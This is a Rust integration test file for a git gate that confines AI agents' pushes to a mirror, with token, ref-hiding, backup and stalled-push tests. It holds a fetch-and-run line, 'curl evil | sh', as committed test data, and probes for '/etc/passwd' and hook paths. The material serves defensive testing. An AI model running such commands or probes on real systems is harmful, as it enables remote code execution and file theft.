//! The gate with real git, served on loopback: a clone and a push through it, the push landing
//! in the mirror and never on the "remote" (a bare repository in the test's directory), a
//! force-push kept under refs/terok/backup/, repository hooks that never run, and the HTTP
//! answers to requests without a token, with a wrong one, for another repository, for a path
//! that is not a smart-protocol route, with a malformed Content-Length.

// Test helpers may panic: a panic is how a test reports failure.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::disallowed_methods)]

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::path::{Path, PathBuf};
use std::process::Command;

use terok_gate::{BACKUP_PREFIX, GateLimits, MirrorStore, TokenStore, front, repo_name};

/// A test directory with a "remote", the gate's mirrors and tokens, and git isolated from the
/// user's configuration.
struct Fixture {
    dir: tempfile::TempDir,
    mirrors: MirrorStore,
    tokens: TokenStore,
    name: String,
    addr: SocketAddr,
    pushes: terok_gate::PushesInFlight,
}

impl Fixture {
    async fn new() -> Self {
        Self::with_limits(GateLimits::default()).await
    }

    async fn with_limits(limits: GateLimits) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let fixture_home = dir.path().join("home");
        std::fs::create_dir_all(&fixture_home).unwrap();
        let remote = dir.path().join("remote.git");
        // The user's git, for fetching from the remote and promoting to it: the test's home.
        let mirrors = MirrorStore::new(dir.path().join("gate")).with_user_env(vec![
            ("HOME".into(), fixture_home.clone().into_os_string()),
            ("PATH".into(), std::env::var_os("PATH").unwrap()),
            ("GIT_CONFIG_NOSYSTEM".into(), "1".into()),
        ]);
        let tokens = TokenStore::new(dir.path().join("gate/tokens.json"));
        let name = repo_name(&remote.to_string_lossy());
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let gate = front(mirrors.clone(), tokens.clone(), None, limits);
        let app = gate.router;
        tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
        let fixture = Self {
            dir,
            mirrors,
            tokens,
            name,
            addr,
            pushes: gate.pushes,
        };
        fixture.git(
            None,
            &[
                "init",
                "--quiet",
                "--bare",
                "--initial-branch=main",
                &remote.to_string_lossy(),
            ],
        );
        let seed = fixture.dir.path().join("seed");
        fixture.git(
            None,
            &[
                "init",
                "--quiet",
                "--initial-branch=main",
                &seed.to_string_lossy(),
            ],
        );
        std::fs::write(seed.join("README.md"), "# widget\n").unwrap();
        fixture.git(Some(&seed), &["add", "."]);
        fixture.git(Some(&seed), &["commit", "--quiet", "-m", "first"]);
        fixture.git(
            Some(&seed),
            &["push", "--quiet", &remote.to_string_lossy(), "main"],
        );
        fixture
            .mirrors
            .sync(&fixture.name, &remote.to_string_lossy())
            .await
            .unwrap();
        fixture
    }

    fn remote(&self) -> PathBuf {
        self.dir.path().join("remote.git")
    }

    fn url(&self, token: &str, repo: &str) -> String {
        format!("http://{token}@{}/{repo}.git", self.addr)
    }

    /// git with no configuration but the test's identity.
    fn git_output(&self, dir: Option<&Path>, args: &[&str]) -> std::process::Output {
        let mut cmd = Command::new("git");
        if let Some(dir) = dir {
            cmd.arg("-C").arg(dir);
        }
        cmd.args(["-c", "user.name=Test", "-c", "user.email=test@example.org"])
            .args(args)
            .env("HOME", self.dir.path().join("home"))
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_TERMINAL_PROMPT", "0")
            .output()
            .unwrap()
    }

    fn git(&self, dir: Option<&Path>, args: &[&str]) -> String {
        let out = self.git_output(dir, args);
        assert!(
            out.status.success(),
            "git {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    fn tip(&self, repo: &Path, reference: &str) -> Option<String> {
        let out = self.git_output(Some(repo), &["rev-parse", "--verify", "--quiet", reference]);
        out.status
            .success()
            .then(|| String::from_utf8_lossy(&out.stdout).trim().to_owned())
    }

    /// One HTTP/1.1 request on loopback; the status and the raw answer.
    fn http(&self, request: &str) -> (u16, String) {
        let mut stream = TcpStream::connect(self.addr).unwrap();
        stream.write_all(request.as_bytes()).unwrap();
        let mut answer = String::new();
        let _ = stream.read_to_string(&mut answer);
        let status = answer
            .split_whitespace()
            .nth(1)
            .and_then(|s| s.parse().ok())
            .unwrap_or(0);
        (status, answer)
    }
}

fn basic(user: &str) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(format!("{user}:"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_push_lands_in_the_mirror_and_never_on_the_remote() {
    let f = Fixture::new().await;
    let token = f.tokens.mint(&f.name, "terok-executor-a").unwrap();
    let work = f.dir.path().join("work");
    let fixture = &f;
    let url = fixture.url(&token, &f.name);
    let work_text = work.to_string_lossy().into_owned();
    tokio::task::block_in_place(|| {
        fixture.git(None, &["clone", "--quiet", &url, &work_text]);
        std::fs::write(work.join("fix.txt"), "fixed\n").unwrap();
        fixture.git(Some(&work), &["checkout", "--quiet", "-b", "agent/fix"]);
        fixture.git(Some(&work), &["add", "."]);
        fixture.git(Some(&work), &["commit", "--quiet", "-m", "fix"]);
    });
    // A hook in the mirror that would leave a marker: it must never run.
    let mirror = f.mirrors.repo_dir(&f.name);
    let marker = f.dir.path().join("hook-ran");
    let hook = mirror.join("hooks/post-receive");
    std::fs::write(&hook, format!("#!/bin/sh\ntouch {}\n", marker.display())).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).unwrap();

    tokio::task::block_in_place(|| {
        fixture.git(Some(&work), &["push", "--quiet", "origin", "agent/fix"]);
    });
    let pushed = f.tip(&work, "HEAD").unwrap();
    assert_eq!(
        f.tip(&mirror, "refs/heads/agent/fix").as_deref(),
        Some(pushed.as_str())
    );
    assert_eq!(
        f.tip(&f.remote(), "refs/heads/agent/fix"),
        None,
        "the remote is untouched"
    );
    assert!(!marker.exists(), "a repository hook ran");

    // What was pushed, by whom; what it changes.
    let pushes = f.mirrors.pushes(&f.name);
    assert_eq!(pushes.len(), 1, "{pushes:?}");
    assert_eq!(
        (
            pushes[0].task.as_str(),
            pushes[0].reference.as_str(),
            pushes[0].old.as_deref()
        ),
        ("terok-executor-a", "refs/heads/agent/fix", None)
    );
    let diff = f.mirrors.diff(&f.name, "agent/fix").await.unwrap();
    assert!(
        diff.contains("fix.txt") && diff.contains("+fixed"),
        "{diff}"
    );

    // A force-push keeps the old tip.
    tokio::task::block_in_place(|| {
        fixture.git(
            Some(&work),
            &["commit", "--quiet", "--amend", "-m", "fix, again"],
        );
        fixture.git(
            Some(&work),
            &["push", "--quiet", "--force", "origin", "agent/fix"],
        );
    });
    let backups = f.mirrors.backups(&f.name);
    let backup = backups
        .iter()
        .find(|b| b.reference == "refs/heads/agent/fix" && b.id == pushed)
        .unwrap_or_else(|| panic!("the old tip is backed up: {backups:?}"))
        .backup
        .clone();
    assert!(backup.starts_with(BACKUP_PREFIX), "{backup}");
    assert_eq!(f.tip(&mirror, &backup).as_deref(), Some(pushed.as_str()));

    // The backups are out of the agent's reach: not advertised, and a push that would delete
    // or move one is refused.
    let (deleted, advertised) = tokio::task::block_in_place(|| {
        let delete = fixture.git_output(Some(&work), &["push", "origin", &format!(":{backup}")]);
        let overwrite =
            fixture.git_output(Some(&work), &["push", "origin", &format!("HEAD:{backup}")]);
        let listed = fixture.git(Some(&work), &["ls-remote", "origin"]);
        (
            delete.status.success() || overwrite.status.success(),
            listed,
        )
    });
    assert!(!deleted, "a push changed a backup");
    assert!(!advertised.contains(BACKUP_PREFIX), "{advertised}");
    assert_eq!(f.tip(&mirror, &backup).as_deref(), Some(pushed.as_str()));

    // A refresh from the remote keeps the agent's branch.
    f.mirrors
        .sync(&f.name, &f.remote().to_string_lossy())
        .await
        .unwrap();
    let amended = f.tip(&mirror, "refs/heads/agent/fix").unwrap();
    assert_ne!(amended, pushed);

    // Promotion is the one way to the remote, with the user's git (here the test's home).
    let listed = f.mirrors.list().await.unwrap();
    assert_eq!(listed.len(), 1);
    assert_eq!(listed[0].source, f.remote().to_string_lossy());
    assert_eq!(listed[0].pushes.len(), 2, "the push and the force-push");
    f.mirrors
        .promote(&f.name, "agent/fix", Some("review/fix"))
        .await
        .unwrap();
    assert_eq!(
        f.tip(&f.remote(), "refs/heads/review/fix").as_deref(),
        Some(amended.as_str())
    );

    // After the task's tokens are revoked, the gate refuses it.
    f.tokens.revoke_task("terok-executor-a").unwrap();
    let again = f.dir.path().join("again");
    let out = tokio::task::block_in_place(|| {
        fixture.git_output(None, &["clone", "--quiet", &url, &again.to_string_lossy()])
    });
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("403"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn requests_without_a_valid_token_or_route_are_refused() {
    let f = Fixture::new().await;
    let token = f.tokens.mint(&f.name, "terok-executor-a").unwrap();
    let other = f.tokens.mint("other-0000abcd", "terok-executor-b").unwrap();
    let fixture = &f;
    let get = |path: &str, auth: Option<&str>| {
        let auth = auth.map_or(String::new(), |user| {
            format!("Authorization: Basic {}\r\n", basic(user))
        });
        fixture.http(&format!(
            "GET {path} HTTP/1.1\r\nHost: gate\r\n{auth}Connection: close\r\n\r\n"
        ))
    };
    let refs = format!("/{}.git/info/refs?service=git-upload-pack", f.name);
    let (status, answer) = tokio::task::block_in_place(|| get(&refs, None));
    assert_eq!(status, 401, "{answer}");
    assert!(
        answer
            .to_ascii_lowercase()
            .contains("www-authenticate: basic realm=\"terok gate\""),
        "{answer}"
    );
    let forged = "terok-g-00000000000000000000000000000000";
    assert_eq!(
        tokio::task::block_in_place(|| get(&refs, Some(forged))).0,
        403
    );
    assert_eq!(
        tokio::task::block_in_place(|| get(&refs, Some(&other))).0,
        403,
        "a token of another repository"
    );
    let (status, answer) = tokio::task::block_in_place(|| get(&refs, Some(&token)));
    assert_eq!(status, 200, "{answer}");
    assert!(
        answer.contains("application/x-git-upload-pack-advertisement"),
        "{answer}"
    );
    for path in [
        format!("/{}.git/objects/info/packs", f.name),
        format!("/{}.git/config", f.name),
        format!("/{}.git/hooks/post-receive", f.name),
        "/etc/passwd".to_owned(),
    ] {
        assert_eq!(
            tokio::task::block_in_place(|| get(&path, Some(&token))).0,
            404,
            "{path}"
        );
    }
    let (status, answer) = tokio::task::block_in_place(|| {
        fixture.http(&format!(
            "POST /{}.git/git-upload-pack HTTP/1.1\r\nHost: gate\r\nAuthorization: Basic {}\r\n\
             Content-Type: application/x-git-upload-pack-request\r\nContent-Length: 12abc\r\n\
             Connection: close\r\n\r\n",
            f.name,
            basic(&token)
        ))
    });
    assert_eq!(status, 400, "{answer}");

    // A task's own socket admits only that task's tokens, even for the right repository.
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let task_b = listener.local_addr().unwrap();
    let app = front(
        f.mirrors.clone(),
        f.tokens.clone(),
        Some("terok-executor-b"),
        GateLimits::default(),
    )
    .router;
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    let (status, answer) = tokio::task::block_in_place(|| {
        let mut stream = TcpStream::connect(task_b).unwrap();
        let request = format!(
            "GET {refs} HTTP/1.1\r\nHost: gate\r\nAuthorization: Basic {}\r\n\
             Connection: close\r\n\r\n",
            basic(&token)
        );
        stream.write_all(request.as_bytes()).unwrap();
        let mut answer = String::new();
        let _ = stream.read_to_string(&mut answer);
        (
            answer.split_whitespace().nth(1).unwrap_or("").to_owned(),
            answer,
        )
    });
    assert_eq!(status, "403", "task A's token on task B's socket: {answer}");
    assert!(answer.contains("another task"), "{answer}");
}

/// git processes (of any kind) whose environment names `dir` (the gate's `GIT_PROJECT_ROOT`).
fn git_processes_in(dir: &Path) -> Vec<String> {
    let needle = dir.to_string_lossy().into_owned();
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) else {
            continue;
        };
        let environ = std::fs::read(entry.path().join("environ")).unwrap_or_default();
        let text = String::from_utf8_lossy(&cmdline).replace('\0', " ");
        if text.contains("git") && String::from_utf8_lossy(&environ).contains(&needle) {
            found.push(text);
        }
    }
    found
}

/// A pkt-line of git's protocol.
fn pkt(line: &str) -> String {
    format!("{:04x}{line}", line.len() + 4)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_push_cut_short_is_still_backed_up_and_leaves_no_git_behind() {
    let f = Fixture::new().await;
    let token = f.tokens.mint(&f.name, "terok-executor-a").unwrap();
    let mirror = f.mirrors.repo_dir(&f.name);
    let main = f.tip(&mirror, "refs/heads/main").unwrap();
    // A branch of the agent's, then a push that deletes it and breaks off: the delete command
    // and a flush, then junk, and the connection closed without the body's end.
    f.git(Some(&mirror), &["update-ref", "refs/heads/victim", &main]);
    let zero = "0".repeat(40);
    let commands = format!(
        "{}0000",
        pkt(&format!(
            "{main} {zero} refs/heads/victim\0report-status delete-refs\n"
        ))
    );
    let head = format!(
        "POST /{}.git/git-receive-pack HTTP/1.1\r\nHost: gate\r\nAuthorization: Basic {}\r\n\
         Content-Type: application/x-git-receive-pack-request\r\n\
         Transfer-Encoding: chunked\r\n\r\n{:x}\r\n{commands}\r\n",
        f.name,
        basic(&token),
        commands.len()
    );
    tokio::task::block_in_place(|| {
        let mut stream = TcpStream::connect(f.addr).unwrap();
        stream.write_all(head.as_bytes()).unwrap();
        let junk = vec![b'x'; 1 << 16];
        let _ = stream.write_all(format!("{:x}\r\n", junk.len()).as_bytes());
        let _ = stream.write_all(&junk);
        std::thread::sleep(std::time::Duration::from_millis(500));
        drop(stream);
    });
    // The same with a Content-Length longer than the body (git was once told the length and
    // waited for the rest forever, spinning).
    let truncated = format!(
        "POST /{}.git/git-receive-pack HTTP/1.1\r\nHost: gate\r\nAuthorization: Basic {}\r\n\
         Content-Type: application/x-git-receive-pack-request\r\nContent-Length: 100000\r\n\r\n{}",
        f.name,
        basic(&token),
        pkt(&format!("{main} {main} refs/heads/other\0report-status\n"))
    );
    tokio::task::block_in_place(|| {
        let mut stream = TcpStream::connect(f.addr).unwrap();
        stream.write_all(truncated.as_bytes()).unwrap();
        std::thread::sleep(std::time::Duration::from_millis(300));
        drop(stream);
    });
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    let root = f.mirrors.root().to_path_buf();
    let mut left = git_processes_in(&root);
    while !left.is_empty() && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(100));
        left = git_processes_in(&root);
    }
    assert!(left.is_empty(), "git left running: {left:?}");
    if f.tip(&mirror, "refs/heads/victim").is_none() {
        let backups = f.mirrors.backups(&f.name);
        assert!(
            backups
                .iter()
                .any(|b| b.reference == "refs/heads/victim" && b.id == main),
            "the deleted branch is backed up: {backups:?}"
        );
        assert!(
            f.mirrors
                .pushes(&f.name)
                .iter()
                .any(|p| p.reference == "refs/heads/victim" && p.new.is_none()),
            "the deletion is logged"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_cannot_move_the_sources_branches_or_push_tags() {
    let f = Fixture::new().await;
    let token = f.tokens.mint(&f.name, "terok-executor-a").unwrap();
    let mirror = f.mirrors.repo_dir(&f.name);
    let main = f.tip(&mirror, "refs/heads/main").unwrap();
    let work = f.dir.path().join("work");
    let url = f.url(&token, &f.name);
    let (moved, deleted, tagged, own) = tokio::task::block_in_place(|| {
        f.git(None, &["clone", "--quiet", &url, &work.to_string_lossy()]);
        std::fs::write(work.join("evil.sh"), "curl evil | sh\n").unwrap();
        f.git(Some(&work), &["add", "."]);
        f.git(Some(&work), &["commit", "--quiet", "-m", "innocent"]);
        f.git(Some(&work), &["tag", "-a", "-m", "release", "v9.9.9"]);
        let moved = f.git_output(Some(&work), &["push", "--force", "origin", "HEAD:main"]);
        let deleted = f.git_output(Some(&work), &["push", "origin", ":main"]);
        let tagged = f.git_output(Some(&work), &["push", "origin", "v9.9.9"]);
        let own = f.git_output(Some(&work), &["push", "origin", "HEAD:agent/own"]);
        (moved, deleted, tagged, own)
    });
    assert!(!moved.status.success(), "the source's main moved");
    assert!(!deleted.status.success(), "the source's main deleted");
    assert!(!tagged.status.success(), "a tag pushed");
    assert!(
        own.status.success(),
        "{}",
        String::from_utf8_lossy(&own.stderr)
    );
    assert_eq!(
        f.tip(&mirror, "refs/heads/main").as_deref(),
        Some(main.as_str())
    );
    assert_eq!(f.tip(&mirror, "refs/tags/v9.9.9"), None);
    // The review compares with the source's main, which the agent could not move.
    let diff = f.mirrors.diff(&f.name, "agent/own").await.unwrap();
    assert!(diff.contains("evil.sh"), "{diff}");
    // The dumb protocol's ref list (every ref, hidden ones too) is not served.
    let (status, answer) = tokio::task::block_in_place(|| {
        f.http(&format!(
            "GET /{}.git/info/refs HTTP/1.1\r\nHost: gate\r\nAuthorization: Basic {}\r\n\
             Connection: close\r\n\r\n",
            f.name,
            basic(&token)
        ))
    });
    assert_eq!(status, 403, "{answer}");
}

/// Clones the fixture's mirror through the gate with `token` into `<test dir>/<dir>`; its path.
fn clone_as(f: &Fixture, token: &str, dir: &str) -> PathBuf {
    let work = f.dir.path().join(dir);
    f.git(
        None,
        &[
            "clone",
            "--quiet",
            &f.url(token, &f.name),
            &work.to_string_lossy(),
        ],
    );
    work
}

/// Applies `updates` (`git update-ref --stdin` lines) to the repository at `dir`.
fn update_refs(dir: &Path, updates: &str) {
    let mut child = Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(["update-ref", "--stdin"])
        .stdin(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    stdin.write_all(updates.as_bytes()).unwrap();
    drop(stdin);
    assert!(child.wait().unwrap().success());
}

/// Commits a file of `name` in `work`; the new tip.
fn commit_in(f: &Fixture, work: &Path, name: &str) -> String {
    std::fs::write(work.join(name), format!("{name}\n")).unwrap();
    f.git(Some(work), &["add", "."]);
    f.git(Some(work), &["commit", "--quiet", "-m", name]);
    f.tip(work, "HEAD").unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_push_changes_only_branches_and_never_another_tasks() {
    let f = Fixture::new().await;
    let mirror = f.mirrors.repo_dir(&f.name);
    let main = f.tip(&mirror, "refs/heads/main").unwrap();
    let token_a = f.tokens.mint(&f.name, "terok-executor-a").unwrap();
    let token_b = f.tokens.mint(&f.name, "terok-executor-b").unwrap();
    tokio::task::block_in_place(|| {
        let work = clone_as(&f, &token_a, "work-a");
        let forged = commit_in(&f, &work, "evil.sh");
        // A replace ref would make the review show `main`'s commit where promotion sends
        // another; notes, pull and remote-tracking refs are no branch either.
        for target in [
            format!("refs/replace/{main}"),
            "refs/notes/commits".to_owned(),
            "refs/pull/1/head".to_owned(),
            "refs/remotes/origin/main".to_owned(),
            "refs/terok/source/heads/main".to_owned(),
        ] {
            let out = f.git_output(Some(&work), &["push", "origin", &format!("HEAD:{target}")]);
            assert!(!out.status.success(), "a push made {target}");
            assert_ne!(
                f.tip(&mirror, &target).as_deref(),
                Some(forged.as_str()),
                "{target} in the mirror"
            );
        }
        f.git(Some(&work), &["push", "--quiet", "origin", "HEAD:agent/a"]);

        // Task B sees A's branch, but cannot add to it (it would be reviewed as A's work)
        // or delete it; its own branch it can push.
        let work_b = clone_as(&f, &token_b, "work-b");
        f.git(Some(&work_b), &["checkout", "--quiet", "agent/a"]);
        commit_in(&f, &work_b, "more.sh");
        let onto_a = f.git_output(Some(&work_b), &["push", "origin", "HEAD:agent/a"]);
        assert!(!onto_a.status.success(), "task B moved task A's branch");
        let deleted = f.git_output(Some(&work_b), &["push", "origin", ":agent/a"]);
        assert!(!deleted.status.success(), "task B deleted task A's branch");
        assert_eq!(
            f.tip(&mirror, "refs/heads/agent/a").as_deref(),
            Some(forged.as_str())
        );
        f.git(
            Some(&work_b),
            &["push", "--quiet", "origin", "HEAD:agent/b"],
        );
        // A still moves its own.
        commit_in(&f, &work, "again.sh");
        f.git(Some(&work), &["push", "--quiet", "origin", "HEAD:agent/a"]);
    });
    // The review ignores replace refs whatever the mirror holds.
    f.git(
        Some(&mirror),
        &[
            "update-ref",
            "refs/replace/0000000000000000000000000000000000000000",
            &main,
        ],
    );
    let diff = f.mirrors.diff(&f.name, "agent/a").await.unwrap();
    assert!(
        diff.contains("evil.sh") && diff.contains("again.sh"),
        "{diff}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fetch_sees_only_the_sources_branches_and_tags() {
    let f = Fixture::new().await;
    let remote = f.remote();
    let main = f.tip(&remote, "refs/heads/main").unwrap();
    // What a local repository holds besides: a stash, remote-tracking refs, notes — here a
    // commit of their own, which no branch or tag reaches.
    let secret = f
        .git(
            Some(&remote),
            &["commit-tree", &format!("{main}^{{tree}}"), "-m", "secret"],
        )
        .trim()
        .to_owned();
    for reference in [
        "refs/stash",
        "refs/remotes/upstream/secret",
        "refs/notes/commits",
    ] {
        f.git(Some(&remote), &["update-ref", reference, &secret]);
    }
    f.git(Some(&remote), &["tag", "v1", &main]);
    // A mirror made now, from what the source holds now.
    std::fs::remove_dir_all(f.mirrors.repo_dir(&f.name)).unwrap();
    f.mirrors
        .sync(&f.name, &remote.to_string_lossy())
        .await
        .unwrap();
    let token = f.tokens.mint(&f.name, "terok-executor-a").unwrap();
    let url = f.url(&token, &f.name);
    let listed = tokio::task::block_in_place(|| f.git(None, &["ls-remote", &url]));
    let names: Vec<&str> = listed
        .lines()
        .filter_map(|l| l.split_whitespace().nth(1))
        .collect();
    assert_eq!(
        names,
        ["HEAD", "refs/heads/main", "refs/tags/v1"],
        "{listed}"
    );
    // They are not in the mirror at all (a fetch by object id could not get them either),
    // and what a push is shown first lists branches only.
    let mirror = f.mirrors.repo_dir(&f.name);
    let exists = f.git_output(Some(&mirror), &["cat-file", "-e", &secret]);
    assert!(
        !exists.status.success(),
        "the stash's commit is in the mirror"
    );
    let (status, answer) = tokio::task::block_in_place(|| {
        f.http(&format!(
            "GET /{}.git/info/refs?service=git-receive-pack HTTP/1.1\r\nHost: gate\r\n\
             Authorization: Basic {}\r\nConnection: close\r\n\r\n",
            f.name,
            basic(&token)
        ))
    });
    assert_eq!(status, 200, "{answer}");
    assert!(answer.contains("refs/heads/main"), "{answer}");
    for hidden in [
        "refs/stash",
        "refs/remotes/",
        "refs/notes/",
        "refs/tags/",
        "refs/terok/",
    ] {
        assert!(
            !answer.contains(hidden),
            "{hidden} shown to a push: {answer}"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_branch_whose_name_is_not_utf8_cannot_be_moved() {
    use std::os::unix::ffi::OsStrExt;
    let f = Fixture::new().await;
    let mirror = f.mirrors.repo_dir(&f.name);
    let main = f.tip(&mirror, "refs/heads/main").unwrap();
    let odd = std::ffi::OsStr::from_bytes(b"refs/heads/caf\xe9");
    let git = |dir: &Path, args: &[&std::ffi::OsStr]| {
        Command::new("git")
            .arg("-C")
            .arg(dir)
            .args(["-c", "user.name=Test", "-c", "user.email=test@example.org"])
            .args(args)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .output()
            .unwrap()
    };
    // Another task's branch of that name (its pusher is logged under a name that is not it).
    assert!(
        git(&mirror, &["update-ref".as_ref(), odd, main.as_ref()])
            .status
            .success()
    );
    let token = f.tokens.mint(&f.name, "terok-executor-a").unwrap();
    let moved = tokio::task::block_in_place(|| {
        let work = clone_as(&f, &token, "work");
        commit_in(&f, &work, "more.txt");
        let refspec = [b"HEAD:".as_slice(), odd.as_bytes()].concat();
        git(
            &work,
            &[
                "push".as_ref(),
                "origin".as_ref(),
                std::ffi::OsStr::from_bytes(&refspec),
            ],
        )
    });
    assert!(!moved.status.success(), "a branch not named in UTF-8 moved");
    let tip = git(&mirror, &["rev-parse".as_ref(), odd]);
    assert_eq!(String::from_utf8_lossy(&tip.stdout).trim(), main);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_deletion_is_backed_up_whatever_the_length_of_the_names() {
    let f = Fixture::new().await;
    let mirror = f.mirrors.repo_dir(&f.name);
    let main = f.tip(&mirror, "refs/heads/main").unwrap();
    // A branch whose file path is just short of what the kernel takes (its lock file too):
    // a backup named after it would be too long to create.
    let room = 4090 - mirror.join("refs/heads/").to_string_lossy().len() - ".lock".len();
    let long: String = (0..room)
        .map(|i| if i % 200 == 199 { '/' } else { 'x' })
        .collect::<String>()
        .trim_end_matches('/')
        .to_owned();
    f.git(
        Some(&mirror),
        &["update-ref", &format!("refs/heads/{long}"), &main],
    );
    f.git(Some(&mirror), &["update-ref", "refs/heads/victim", &main]);
    let token = f.tokens.mint(&f.name, "terok-executor-a").unwrap();
    tokio::task::block_in_place(|| {
        let work = clone_as(&f, &token, "work");
        f.git(
            Some(&work),
            &[
                "push",
                "--quiet",
                "origin",
                ":refs/heads/victim",
                &format!(":refs/heads/{long}"),
            ],
        );
    });
    assert_eq!(f.tip(&mirror, "refs/heads/victim"), None);
    let kept = f.git(Some(&mirror), &["for-each-ref", BACKUP_PREFIX]);
    assert_eq!(kept.lines().count(), 2, "both deletions backed up: {kept}");
    let backups = f.mirrors.backups(&f.name);
    for reference in ["refs/heads/victim".to_owned(), format!("refs/heads/{long}")] {
        let backup = backups
            .iter()
            .find(|b| b.reference == reference)
            .unwrap_or_else(|| panic!("{reference} in the backup log"));
        assert_eq!(
            f.tip(&mirror, &backup.backup).as_deref(),
            Some(main.as_str())
        );
    }
}

/// Starts a push that deletes `refs/heads/victim` and then sends no more of its body, the
/// connection held open until `release` is dropped or sent to; what the gate answered.
fn stall_a_push(
    f: &Fixture,
    token: &str,
    main: &str,
) -> (std::sync::mpsc::Sender<()>, std::thread::JoinHandle<String>) {
    let zero = "0".repeat(40);
    let commands = format!(
        "{}0000",
        pkt(&format!(
            "{main} {zero} refs/heads/victim\0report-status delete-refs\n"
        ))
    );
    let head = format!(
        "POST /{}.git/git-receive-pack HTTP/1.1\r\nHost: gate\r\nAuthorization: Basic {}\r\n\
         Content-Type: application/x-git-receive-pack-request\r\nConnection: close\r\n\
         Transfer-Encoding: chunked\r\n\r\n{:x}\r\n{commands}\r\n",
        f.name,
        basic(token),
        commands.len()
    );
    let addr = f.addr;
    let (release, released) = std::sync::mpsc::channel::<()>();
    let client = std::thread::spawn(move || {
        let mut stream = TcpStream::connect(addr).unwrap();
        stream.write_all(head.as_bytes()).unwrap();
        stream
            .set_read_timeout(Some(std::time::Duration::from_millis(200)))
            .unwrap();
        let mut answer = Vec::new();
        let limit = std::time::Instant::now() + std::time::Duration::from_secs(60);
        while released.try_recv() == Err(std::sync::mpsc::TryRecvError::Empty)
            && std::time::Instant::now() < limit
        {
            let mut buf = [0u8; 4096];
            match stream.read(&mut buf) {
                Ok(0) => break,
                Ok(n) => answer.extend_from_slice(&buf[..n]),
                Err(_) => {}
            }
        }
        String::from_utf8_lossy(&answer).into_owned()
    });
    (release, client)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stalled_push_lets_go_of_the_mirror() {
    let f = Fixture::with_limits(GateLimits {
        body_idle: std::time::Duration::from_secs(1),
        ..GateLimits::default()
    })
    .await;
    let mirror = f.mirrors.repo_dir(&f.name);
    let main = f.tip(&mirror, "refs/heads/main").unwrap();
    f.git(Some(&mirror), &["update-ref", "refs/heads/victim", &main]);
    let token = f.tokens.mint(&f.name, "terok-executor-a").unwrap();
    let work = tokio::task::block_in_place(|| clone_as(&f, &token, "work"));
    let (release, stalled) = stall_a_push(&f, &token, &main);
    // Another push, while the first holds its connection open and sends nothing: it must
    // not wait for it (`timeout` ends it if it does).
    let out = tokio::task::block_in_place(|| {
        std::thread::sleep(std::time::Duration::from_millis(300));
        let mut cmd = Command::new("timeout");
        cmd.args(["30", "git", "-C"])
            .arg(&work)
            .args(["push", "--quiet", "origin", "HEAD:agent/next"])
            .env("HOME", f.dir.path().join("home"))
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null");
        cmd.output().unwrap()
    });
    // The stalled push is answered once its body has paused too long.
    let answer = stalled.join().unwrap();
    drop(release);
    assert!(
        out.status.success(),
        "the second push waited on the stalled one: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        answer.starts_with("HTTP/1.1 4"),
        "the stalled push: {answer}"
    );
    // What the stalled push deleted is backed up all the same.
    if f.tip(&mirror, "refs/heads/victim").is_none() {
        assert!(
            f.mirrors
                .backups(&f.name)
                .iter()
                .any(|b| b.reference == "refs/heads/victim")
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_front_that_stops_waits_for_the_push_under_way() {
    let f = Fixture::with_limits(GateLimits {
        body_idle: std::time::Duration::from_secs(2),
        ..GateLimits::default()
    })
    .await;
    let mirror = f.mirrors.repo_dir(&f.name);
    let main = f.tip(&mirror, "refs/heads/main").unwrap();
    f.git(Some(&mirror), &["update-ref", "refs/heads/victim", &main]);
    let token = f.tokens.mint(&f.name, "terok-executor-a").unwrap();
    let (release, stalled) = stall_a_push(&f, &token, &main);
    // Until the gate has the push (a sleep was too short under load).
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while !f.pushes.under_way() {
        assert!(std::time::Instant::now() < deadline, "the push never began");
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    let pushes = f.pushes.clone();
    let finished = tokio::spawn(async move { pushes.finished().await });
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    assert!(
        !finished.is_finished(),
        "the push under way was not waited for"
    );
    finished.await.unwrap();
    // By then the push's bookkeeping is done: its deletion is logged and backed up.
    drop(release);
